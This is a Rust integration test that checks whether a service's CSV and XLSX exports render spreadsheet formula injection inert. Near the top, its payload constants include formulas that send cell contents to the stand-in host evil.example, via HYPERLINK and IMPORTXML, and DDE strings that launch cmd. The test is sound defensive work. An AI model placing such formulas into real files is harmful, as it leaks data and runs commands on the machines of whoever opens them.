//! CSV formula injection: text that a spreadsheet would run as a formula — a note, a review
//! comment, an area's, unit's, category's or activity type's name — is written inert in every CSV
//! the service writes (the observation export, its partner table, the activity report, the
//! command line's export; both separator styles), and as a plain string in XLSX.

use crate::helpers::*;
use crate::sync::{created, observation};
use calamine::{Data, Reader, Xlsx};
use serde_json::{Value, json};
use std::io::Cursor;

/// What opens a formula in Excel, LibreOffice or Google Sheets.
const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// Payloads as an attacker would write them, one per text field.
const AREA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")";
const UNIT_NAME: &str = "+SUM(1+1)*cmd|' /C calc'!A0";
const CATEGORY_LABEL: &str = "@SUM(1+1)";
const TYPE_LABEL: &str = "-2+3+cmd|' /C calc'!A0";
const NOTE: &str = "=1+1;=2+2,\"=3\"";
const COMMENT: &str = "＝IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")";
const ACTIVITY_NOTE: &str = "\t=cmd";

fn rect(lon: f64, lat: f64) -> Value {
    let (w, h) = (0.1, 0.1);
    json!({ "type": "Polygon", "coordinates": [[[lon, lat], [lon + w, lat], [lon + w, lat + h], [lon, lat + h], [lon, lat]]] })
}

/// Every cell of a CSV export (after the byte-order mark), header included.
fn cells(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{}", String::from_utf8_lossy(bytes));
    let mut reader =
        csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).flexible(true).from_reader(&bytes[3..]);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// No cell starts a formula, and each payload expected in this file is there, made inert.
fn assert_inert(what: &str, rows: &[Vec<String>], expected: &[&str]) {
    for row in rows {
        for cell in row {
            assert!(!cell.starts_with(TRIGGERS), "{what}: a cell starts a formula: {cell:?}");
        }
    }
    for payload in expected {
        let inert = format!("'{payload}");
        assert!(rows.iter().flatten().any(|cell| cell == &inert), "{what}: {payload:?} is there, inert: {rows:?}");
    }
}

#[tokio::test]
async fn text_that_would_run_as_a_formula_is_exported_inert_in_every_csv_and_as_a_string_in_xlsx() {
    let app = spawn_app().await;
    let tenant = app.tenant("tyreso").await;
    let admin = &tenant.admin.tokens.access;
    let coordinator = &tenant.coordinator.tokens.access;

    let areas = json!({ "type": "FeatureCollection", "features": [
        { "type": "Feature", "properties": { "code": "EV", "name": AREA_NAME }, "geometry": rect(18.2, 59.2) },
    ]});
    assert_eq!(app.post("/api/v1/areas", admin, &areas).await.status(), 200);
    let unit = app.post("/api/v1/units", admin, &json!({ "slug": "evil", "name": UNIT_NAME })).await;
    assert_eq!(unit.status(), 201, "{}", unit.text().await.unwrap());
    for (path, label) in [("/api/v1/categories", CATEGORY_LABEL), ("/api/v1/activity-types", TYPE_LABEL)] {
        let entry = app.post(path, admin, &json!({ "slug": "evil", "label_sv": label, "label_en": label })).await;
        assert_eq!(entry.status(), 201, "{path}");
    }

    let id = "0193e000-0000-7000-8000-000000000001";
    // Three alike, so that a partner's table publishes the cell (k = 3).
    let records: Vec<Value> = (1..=3)
        .map(|n| {
            let mut record = observation(&format!("0193e000-0000-7000-8000-00000000000{n}"), NOTE);
            record["category"] = json!("evil");
            record
        })
        .collect();
    let now = chrono::Utc::now().timestamp_millis();
    let activity = json!({
        "id": "0193e000-0000-7000-8000-000000000002", "activity_type": "evil", "unit": "evil",
        "started_at": now - 7_200_000, "ended_at": now - 3_600_000, "note": ACTIVITY_NOTE,
        "lat": 59.244, "lon": 18.228, "girls": 3, "boys": 4, "age_unknown": 7,
    });
    let mut push = created("observations", records);
    push["activity_logs"] = json!({ "created": [activity], "updated": [], "deleted": [] });
    let pushed = app.post("/api/v1/sync/push?last_pulled_at=null", &tenant.field.tokens.access, &push).await;
    let pushed: Value = pushed.json().await.unwrap();
    assert!(pushed["results"].as_array().unwrap().iter().all(|r| r["status"] == "applied"), "{pushed}");
    let review = json!({ "status": "forwarded", "review_comment": COMMENT });
    assert_eq!(app.patch(&format!("/api/v1/observations/{id}"), coordinator, &review).await.status(), 200);
    let share = app
        .client
        .put(app.url(&format!("/api/v1/users/{}/areas", tenant.partner.id)))
        .bearer_auth(admin)
        .json(&json!({ "areas": ["EV"] }))
        .send()
        .await
        .unwrap();
    assert_eq!(share.status(), 200);

    let observation_payloads = [AREA_NAME, CATEGORY_LABEL, NOTE, COMMENT];
    for (sep, delimiter) in [("", b','), ("&sep=semicolon", b';')] {
        for lang in ["sv", "en"] {
            let path = format!("/api/v1/exports/observations?format=csv&lang={lang}{sep}");
            let export = app.get(&path, coordinator).await;
            assert_eq!(export.status(), 200);
            assert_inert(&path, &cells(&export.bytes().await.unwrap(), delimiter), &observation_payloads);

            let year = chrono::Datelike::year(&(chrono::Utc::now() - chrono::Duration::hours(2)));
            let path =
                format!("/api/v1/reports/activity?period={year}&format=csv&group_by=type,unit,area&lang={lang}{sep}");
            let report = app.get(&path, coordinator).await;
            assert_eq!(report.status(), 200);
            assert_inert(&path, &cells(&report.bytes().await.unwrap(), delimiter), &[TYPE_LABEL, UNIT_NAME, AREA_NAME]);
        }
        // A partner's table of counts per area and category.
        let path = format!("/api/v1/exports/observations?format=csv{sep}");
        let table = app.get(&path, &tenant.partner.tokens.access).await;
        assert_eq!(table.status(), 200);
        assert_inert(&format!("partner {path}"), &cells(&table.bytes().await.unwrap(), delimiter), &[AREA_NAME]);
    }

    // The command line writes the same CSV.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("observations.csv");
    let output = crate::cli::lagesbild(&app)
        .args(["export", "observations", "--org", "tyreso", "-o"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_inert("lagesbild export", &cells(&std::fs::read(&file).unwrap(), b','), &observation_payloads);

    // XLSX keeps every text as a string, exactly as written: never a formula.
    let xlsx = app.get("/api/v1/exports/observations?format=xlsx", coordinator).await.bytes().await.unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx.to_vec())).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "no cell holds a formula");
    let range = book.worksheet_range(&sheet).unwrap();
    for payload in observation_payloads {
        assert!(
            range.used_cells().any(|(_, _, cell)| *cell == Data::String(payload.to_owned())),
            "{payload:?} is a string cell"
        );
    }
}
